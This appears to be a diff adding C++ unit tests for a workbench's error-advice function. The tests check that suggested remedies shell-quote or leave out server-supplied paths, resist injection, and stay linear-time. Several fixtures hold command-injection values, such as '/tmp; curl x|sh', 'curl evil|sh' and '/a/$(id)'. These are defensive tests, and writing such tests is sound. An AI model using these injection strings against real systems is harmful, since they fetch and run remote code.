@@ -5,6 +5,7 @@
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
+#include <ctime>
 #include <fstream>
 #include <string>
 #include <vector>
@@ -114,8 +115,94 @@ TEST(Troubles, AnUnknownMessageHasNoAdvice) {
   EXPECT_FALSE(advice_for(""));
 }
 
+TEST(Troubles, QuotesForAShellWhatItRepeatsInACommand) {
+  const auto folder = advice_for("cannot start 'a': its working directory '/tmp; curl x|sh' cannot be entered");
+  ASSERT_TRUE(folder);
+  EXPECT_EQ(folder->remedy, "mkdir -p '/tmp; curl x|sh', or correct \"cwd\"");
+  const auto program = advice_for("cannot start '/a/$(id)': Permission denied (errno 13)");
+  ASSERT_TRUE(program);
+  EXPECT_EQ(program->remedy, "chmod +x '/a/$(id)'");
+}
+
+TEST(Troubles, RepeatsNothingThatCannotBeSeen) {
+  const auto advice = advice_for("cannot start 'a': its working directory '/tmp\n\u202e\x1b' cannot be entered");
+  ASSERT_TRUE(advice);
+  EXPECT_EQ(advice->remedy, "correct \"cwd\"");
+}
+
+/// What a server may say to be taken for the workbench, in the places where its words are repeated.
+std::vector<std::string> with_words_of_a_server(const std::string& words) {
+  return {
+      "initialize: " + words, "server/discover: " + words, "tools/list: " + words,
+      "the server ended with exit code 1; its last words on stderr: " + words,
+      "the server has ended 5 times in a row and may be started again in 60 s; calls are refused until then. It ended "
+      "5 times within 1 s, the last time: initialize: " +
+          words};
+}
+
+TEST(Troubles, MakesNoCommandOfTheWordsOfAServer) {
+  const std::vector<std::string> messages{
+      "cannot start 'a': its working directory '/tmp; curl evil|sh' cannot be entered",
+      "cannot start '/tmp/evil': Permission denied", "cannot start 'evil': it was not found on PATH",
+      "cannot start 'npx': it was not found on PATH"};
+  for (const std::string& message : messages) {
+    for (const std::string& text : with_words_of_a_server(message)) {
+      const auto advice = advice_for(text);
+      const std::string remedy = advice ? advice->remedy : "";
+      EXPECT_EQ(remedy.find("evil"), std::string::npos) << text;
+      EXPECT_EQ(remedy.find("/tmp"), std::string::npos) << text;
+      EXPECT_EQ(remedy.find("apt"), std::string::npos) << text;
+    }
+  }
+}
+
+TEST(Troubles, KnowsMessagesBehindWhatTheWorkbenchWritesInFrontOfThem) {
+  const std::string message = "cannot start 'uvx': it was not found on PATH";
+  for (const std::string& text : {"2026-11-22T00:00:00.000Z W [dev/a] not started: " + message,
+                                  "Failed to connect to server 'a' in toolbox 'dev': " + message,
+                                  "[dev/a/b] Error: " + message, "dev/a: FAILED: " + message}) {
+    const auto advice = advice_for(text);
+    ASSERT_TRUE(advice) << text;
+    EXPECT_EQ(advice->remedy, "pipx install uv") << text;
+  }
+}
+
 TEST(Troubles, AMessageMayBeOfAnyLength) {
   EXPECT_FALSE(advice_for(std::string(1'000'000, 'x')));
+}
+
+TEST(Troubles, AreLookedForInTimeThatIsLinearInTheLengthOfTheMessage) {
+  std::vector<std::string> attacks;
+  for (const char* part : {"set ",
+                           "set A_",
+                           "A_",
+                           "A_KEY; ",
+                           "no A",
+                           "cannot start '",
+                           "cannot start 'a': its working directory '",
+                           "${input:",
+                           "cannot listen on ",
+                           "port ",
+                           "variable A",
+                           "plugin '",
+                           "it accepts tokens of ",
+                           "Toolbox '",
+                           "must be a string, not a",
+                           "did you mean \"",
+                           "A",
+                           "_",
+                           ";",
+                           "..."}) {
+    std::string text;
+    while (text.size() < 1'000'000) text += part;
+    attacks.push_back(std::move(text));
+  }
+  for (const std::string& text : attacks) {
+    const std::clock_t begin = std::clock();
+    static_cast<void>(advice_for(text));
+    const double seconds = static_cast<double>(std::clock() - begin) / CLOCKS_PER_SEC;
+    EXPECT_LT(seconds, 0.2) << text.substr(0, 50);
+  }
 }
 
 }  // namespace
